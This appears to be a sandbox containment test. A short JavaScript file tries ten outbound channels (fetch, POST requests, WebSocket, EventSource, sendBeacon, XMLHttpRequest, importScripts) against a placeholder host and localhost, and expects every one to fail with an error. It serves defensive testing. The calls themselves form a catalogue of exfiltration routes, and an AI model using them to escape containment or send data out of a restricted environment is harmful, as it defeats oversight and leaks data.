// class: exfiltration
// tries: to get out where no way out was given, by every name that sends something
// ending: value ["TypeError","TypeError","TypeError","TypeError","TypeError","ReferenceError","ReferenceError","ReferenceError","ReferenceError","ReferenceError"]
// tools: []
// outbound: []

const got = [];
for (const send of [() => fetch('http://a.test/'), () => fetch(new Request('https://a.test/', { method: 'POST', body: 'x' })), () => fetch('http://127.0.0.1:80/'), () => fetch('data:,x'), () => fetch('blob:x'), () => new WebSocket('ws://a.test'), () => new EventSource('http://a.test'), () => navigator.sendBeacon('http://a.test'), () => new XMLHttpRequest(), () => importScripts('http://a.test')]) {
  try { got.push(typeof await send()); } catch (error) { got.push(error.name); }
}
return got;
